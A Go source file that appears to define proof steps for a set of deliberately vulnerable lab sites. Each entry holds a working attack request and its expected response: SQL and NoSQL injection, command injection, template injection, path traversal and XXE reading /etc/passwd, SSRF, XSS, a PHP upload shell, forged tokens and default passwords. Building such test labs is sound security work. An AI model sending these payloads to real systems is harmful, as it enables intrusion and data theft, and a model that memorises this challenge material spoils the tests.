package web

import (
	"archive/tar"
	"bytes"
	"strings"
)

// fourth are a fourth set of small sites, in lab/web/fourth, in the manner of challenges for agents, with one weakness
// each. They, too, were written, and their labels proved, before their author saw the tester. Some have one user, as
// challenges do.
var fourth = []flow{
	// Statements.
	{"stamps", "python", pairs, "", "-", "", []step{
		{"/belepes", "sql", "weak", "- POST /belepes felhasznalo=q7&jelszo=x'Or'1'='1 => ^302"}}},
	{"orchard", "python", pairs, "form / namn losen", "lisa:Appelmust-4", "", []step{
		{"/**", "sql", "weak", "lisa POST /installningar region=x'OR'1'='1 ; lisa GET /oversikt => hemlig"}}},
	{"hardware", "python", pairs, "", "-", "", []step{
		{"/api/v1/stock/*", "sql", "weak", "- GET /api/v1/stock/zzz'OR'1'='1 => \"available\": ?true"}}},
	{"pollbooth", "python", pairs, "", "-", "", []step{
		{"/", "sql", "weak", "- [X-Forwarded-For: 9'OR'1'='1] GET / => already voted"}}},
	{"ceramics", "python", pairs, "form / potter word", "mika:Glaze-1250", "", []step{
		{"/me", "sql", "weak", "mika POST /me about=q7',title='curator ; mika GET /me => <small>curator"}}},
	{"sundial", "python", pairs, "", "-", "", []step{
		{"/api/dials/search", "sql", "weak", `- POST /api/dials/search {"text":"","sort":{"by":"CASE WHEN maker='Habermel' THEN 0 ELSE 1 END","dir":"asc"}} => ^200(?s).*"dials": ?\[\s*\{\s*"maker": ?"Habermel"`}}},
	{"libretto", "python", pairs, "", "-", "", []step{
		{"/**", "sql", "weak", "- [Cookie: gouts=eyJnZW5yZSI6IngnT1InMSc9JzEifQ==] GET / => Reine des Neiges"}}},
	{"vineyard", "node", pairs, "", "-", "", []step{
		{"/podrum/prijava", "nosql", "weak", `- POST /podrum/prijava {"user":{"$gt":""},"pin":{"$gt":""}} => Barrel 9`}}},
	{"fishmarket", "node", pairs, "", "-", "", []step{
		{"/fish", "nosql", "weak", "- GET /fish?kind=x'%7C%7C'1'=='1 => for the mayor"}}},

	// Commands, templates, files, documents, addresses, objects.
	{"netcheck", "python", pairs, "", "-", "", []step{
		{"/strumenti/risolvi", "command", "weak", "- POST /strumenti/risolvi host=localhost%0aexpr+7+%2B+1330 => 1337"}}},
	{"thumbs", "node", pairs, "", "-", "", []step{
		{"/zrob", "command", "weak", "- POST /zrob obraz=wawel.jpg&rozmiar=9x9$(sleep${IFS}2) => slow"}}},
	{"foundry", "php", pairs, "", "-", "", []step{
		{"/**", "command", "weak", "- GET /index.php?glocke=root:x'+/etc/passwd+'&ton=alle => root:x:0:0"}}},
	{"brasserie", "python", pairs, "", "-", "", []step{
		{"/connexion", "template", "weak", "- POST /connexion identifiant={{7*191}}&secret=x => pour 1337"}}},
	{"velodrome", "python", pairs, "", "-", "", []step{
		{"/**", "template", "weak", "-a POST /inschrijven renner={{7*191}}&pas=q7q7q7 ; -a POST /start renner={{7*191}}&pas=q7q7q7 ; -a GET /renner => Dag 1337"}}},
	{"postmark", "node", pairs, "", "-", "", []step{
		{"/api/cards/preview", "template", "weak", `- POST /api/cards/preview {"to":"q","text":"<?= 7*191 ?>"} => 1337`}}},
	{"barometer", "node", pairs, "", "-", "", []step{
		{"/**", "template", "weak", "- POST /spruch motto={{7*191}} ; - GET / => <h1>1337"}}},
	{"vinoteca", "php", pairs, "", "-", "", []step{
		{"/**", "template", "weak", "- POST /index.php carta={{7*191}} => <div class=\"carta\">1337"}}},
	{"abacus", "node", pairs, "", "-", "", []step{
		{"/api/cell", "code", "weak", `- POST /api/cell {"cell":"A1","formula":"'q7'+process.pid"} => "q7[0-9]+"`}}},
	{"almanac", "python", pairs, "", "-", "", []step{
		{"/download", "path", "weak", "- GET /download?doc=/etc/passwd => root:x:0:0"}}},
	{"shoebox", "python", pairs, "", "-", "", []step{
		{"/**", "path", "weak", "- FILE /album bundle q7.tar application/x-tar " + linked("note.txt", "/etc/passwd") +
			" ; - GET /album/{code}/note.txt => root:x:0:0"}}},
	{"iconset", "node", pairs, "", "-", "", []step{
		{"/raw", "path", "weak", "- GET /raw?size=1&icon=x.svg/" + strings.Repeat("../", 9) + "etc/passwd => root:x:0:0"}}},
	{"campsite", "php", pairs, "", "-", "", []step{
		{"/**", "path", "weak", "- [Cookie: sprog=" + strings.Repeat("....//", 12) + "etc/passwd] GET / => root:x:0:0"}}},
	{"linkcard", "python", pairs, "", "-", "", []step{
		{"/api/cards", "ssrf", "weak", `- POST /api/cards {"url":"http://127.1:{port}/","theme":"light"} => "status": ?200`}}},
	{"tocsin", "node", pairs, "", "-", "", []step{
		{"/api/hooks/test", "ssrf", "weak", `- POST /api/hooks/test {"hook":{"callback":"http://2130706433:{port}/","event":"flood"}} => Tocsin alerts`}}},
	{"stockfoto", "php", pairs, "", "-", "", []step{
		{"/pratinjau.php", "ssrf", "weak", "- GET /pratinjau.php?gambar=http://127.0.0.1:{port}/&lebar=320 => base64,PCFkb2N0eXBl"}}},
	{"canalboat", "python", pairs, "", "-", "", []step{
		{"/api/quotes", "xxe", "weak", `- POST /api/quotes <!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/passwd">]><quote><boat>&e;</boat><days>2</days></quote> => root:x:0:0`}}},
	{"podium", "php", pairs, "", "-", "", []step{
		{"/**", "xxe", "weak", `- FILE / results q7.xml text/xml <!DOCTYPE r [<!ENTITY e PUBLIC "q7" "file:///etc/passwd">]><r><runner>&e;</runner></r> => root:x:0:0`}}},
	{"kiteschool", "python", pairs, "", "-", "", []step{
		{"/plano", "deserialization", "weak", "- GET /plano?s=eJxLTirNzCnJzCvmSi1LzOHSCKtWz8vPTVW3UjDXMrQ01FFQTyzNSSwG8qNja7lKgvQAkoYPEw== => <h2>1337"}}},
	{"heraldry", "node", pairs, "", "-", "", []step{
		{"/**", "upload", "weak", "- FILE /scuta shield q7.svg image/svg+xml <svg>q7</svg> ; - GET /scuta/q7.svg => ^200 image/svg[^\n]*\n(?s).*<svg>q7"}}},
	{"herbarium", "php", pairs, "form / student pin", "lin.dao:Gentiana-1753", "", []step{
		{"/**", "upload", "weak", "lin.dao FILE / sheet q7.png.php image/png <?=7*191; ; - GET /files/q7.png.php => ^200(?s).*1337"}}},

	// What a browser runs, follows and sends.
	{"tapas", "python", pairs, "", "-", "", []step{
		{"/carta", "xss", "weak", "- GET /carta?plato='onfocus=alert(7)+autofocus+x='&orden=precio => value=''onfocus=alert"}}},
	{"campfire", "python", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /tell story=%3Cimg+src=x+onerror+=alert(7)%3E&teller=q7 ; - GET / => <img src=x onerror =alert"}}},
	{"zine", "node", pairs, "", "-", "", []step{
		{"/numero", "xss", "weak", "- GET /numero?n=4;alert(7)&sivu=1 => var numero = 4;alert\\(7\\);"}}},
	{"bakehouse", "node", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- GET /%3Cimg%20src=x%20onerror=alert(7)%3E => bake <b><img src=x onerror=alert"}}},
	{"stargazer", "node", pairs, "", "-", "", []step{ // it takes a browser to see it: the proof looks at the script
		{"/**", "xss", "weak", "- GET /js/sky.js => innerHTML = [^;]* object"}}},
	{"tavern", "php", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- POST /index.php song=%3Cb+onmouseover=alert(7)%3Eq7%3C/b%3E ; - GET / => <b onmouseover=alert"}}},
	{"lostcat", "php", pairs, "", "-", "", []step{
		{"/**", "xss", "weak", "- FILE / foto <b>q7.png image/png x ; - GET / => <li><b>q7"}}},
	{"timber", "php", pairs, "", "-", "", []step{
		{"/siirry.php", "redirect", "weak", "- GET /siirry.php?kohde=https://q7.example/puutavara.example&kieli=fi => Location: https://q7.example"}}},
	{"dogwalk", "php", pairs, "form / walker pw", "bea:Leash-and-Ball9", "", []step{
		{"/**", "csrf", "weak", "bea [Origin: https://q7.example] POST /index.php email=q7@q.example ; bea GET / => go to q7@q.example"}}},
	{"piggybank", "node", pairs, "form /feed kid word", "zoe:Truffle-3-Trot", "", []step{
		{"/api/pig", "cors", "weak", "zoe [Origin: null] GET /api/pig => Allow-Origin: null(?s).*PB-990"}}},

	// Of others, and of those with more rights.
	{"grants", "python", pairs, "form /ouvrir courriel mdp", "m.durand:Encrier-88 s.petit:Buvard-77", "", []step{
		{"/api/dossiers/*", "bola", "weak", "m.durand GET /api/appels ; m.durand GET /api/dossiers/{uuid} => FR76"}}},
	{"physio", "python", pairs, "form /acceso paciente clave", "carmen.ruiz:Rodilla-izq1", "", []step{
		{"/ficha", "bola", "weak", "carmen.ruiz GET /ficha?r=eyJpZCI6NDB9 => operado"}}},
	{"parcelbox", "node", pairs, "form /sisse epost parool", "kv@post.example:Box-By-The-Door1 ob@post.example:Box-On-Floor-2", "", []step{
		{"/p/*", "bola", "weak", "kv@post.example GET /p/rruj => door code"}}},
	{"deposit", "php", pairs, "form / onoma kodikos", "giannis:Drachmi-71 eleni:Obolos-72", "", []step{
		{"/**", "bola", "weak", "giannis POST /index.php logariasmos=100232&minas=5 => 5.000"}}},
	{"aviary", "node", pairs, "", "-", "", []step{
		{"/graphql", "bfla", "weak", `- POST /graphql {"query":"{observers{phone apiKey}}"} => av-51e0`},
		{"/graphql", "introspection", "weak", `- POST /graphql {"query":"{__schema{types{name}}}"} => "Observer"`}}},
	{"guildhall", "python", pairs, "", "-", "", []step{
		{"/apply", "hidden", "weak", "-a POST /apply name=q7m&secret=q7x&kind=master ; -a POST /enter name=q7m&secret=q7x ; -a GET /ledger => guineas"}}},
	{"paddock", "node", pairs, "form /saddle rider password", "nuala:Clover-7-hay", "", []step{
		{"/**", "bfla", "weak", "- [Cookie: rider=eyJ1c2VyIjoicTciLCJyb2xlIjoiYWRtaW4ifQ] GET /steward => Vet account"}}},
	{"lodge", "php", pairs, "form / gast wort", "resi:Enzian-2044m", "", []step{
		{"/**", "bfla", "weak", "- [Cookie: guest=Tzo1OiJHdWVzdCI6Mjp7czo0OiJuYW1lIjtzOjQ6InJlc2kiO3M6Njoid2FyZGVuIjtiOjE7fQ%3D%3D] GET /index.php?seite=kassa => Tresor"}}},
	{"orrery", "php", pairs, "", "-", "", []step{
		{"/workshop.php", "continue", "weak", "- GET /workshop.php => Lady Byrne"}}},
	{"notaries", "node", pairs, "json /api/entrar utilizador senha", "rita.f:Selo-Branco-5", "", []step{
		{"/**", "jwt", "weak", "- [Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJub21lIjoicTciLCJwYXBlbCI6Im5vdGFyaW8iLCJleHAiOjQxMDI0NDQ4MDB9.XLbbDtELpJOKuv1rnosCYQ7bcLVhlgEI8-bthSQ9oDo] GET /api/testamentos => o gato"}}},
	{"lighthouse", "python", pairs, "form /entrar usuario chave", "iria:Percebe-no-mar3", "", []step{
		{"/**", "jwt", "weak", "- [Cookie: faro={jwt}] GET /lampada => porta 1853"}}},
	{"planetarium", "python", pairs, "form /seat user word", "visitor:Perseid-12", "", []step{
		{"/**", "tamper", "weak", "- [Cookie: session=eyJ1c2VyIjoicTciLCJyb2xlIjoicHJvamVjdGlvbmlzdCJ9.ZVPxAA.p-1TFv3xbt0hGR_z9DOBv5lqMp8] GET /booth => 4-4-1-9"}}},

	// Prices, passwords, and what was left behind.
	{"cheese", "python", pairs, "", "-", "", []step{
		{"/panier", "logic", "weak", "- POST /panier article=brie&quantite=-2 ; - GET /panier => Total : -18"}}}, //nolint:misspell // French
	{"tramcard", "node", pairs, "", "-", "", []step{
		{"/api/orders", "logic", "weak", `- POST /api/orders {"product":"month","unitPrice":1,"count":2} => "total":2\D`}}},
	{"theatre", "php", pairs, "", "-", "", []step{
		{"/**", "logic", "weak", "- POST /index.php gutschein=BALKON10 ; - POST /index.php gutschein=Balkon10 => zahlen: 28 "}}},
	{"arcade", "node", pairs, "", "-", "", []step{
		{"/prize", "race", "weak", "- GET / ; - TWICE POST /prize prize=bear ; - GET / => Bears: 2"}}},
	{"rowing", "python", pairs, "form /inn navn passord", "amy:Catch-and-1 lee:Feather-22", "", []step{
		{"/glemt", "host", "weak", "- [X-Forwarded-Host: q7.example] POST /glemt navn=amy ; amy GET /post => http://q7\\.example/nytt"}}},
	{"orchids", "node", pairs, "", "-", "", []step{
		{"/**", "predictable", "weak", "- POST /recupero email=mara%40orchids.example ; - GET /recupero/bWFyYUBvcmNoaWRzLmV4YW1wbGU => per mara@"}}},
	{"turnstile", "php", pairs, "", "-", "", []step{
		{"/**", "default", "weak", "- POST /index.php login=admin ; - POST /index.php passwd=admin123 ; - GET /index.php => Cards: 1187"}}},
	{"gliders", "python", pairs, "", "-", "", []step{
		{"/logs/app.log", "exposure", "weak", "- GET /logs/app.log => Vario-Ton-3"},
		{"/config.yml", "exposure", "weak", "- GET /config.yml => Schleppseil"}}},
	{"tugboat", "node", pairs, "", "-", "", []step{
		{"/.git/**", "exposure", "weak", "- GET /.git/config => Tros-Los-88"},
		{"/docker-compose.yml", "exposure", "weak", "- GET /docker-compose.yml => Bolder-14"}}},
}

// linked is an archive with a link of a name to a file.
func linked(name, to string) string {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	_ = w.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: name, Linkname: to, Mode: 0o777}) // a buffer does not fail
	_ = w.Close()
	return b.String()
}
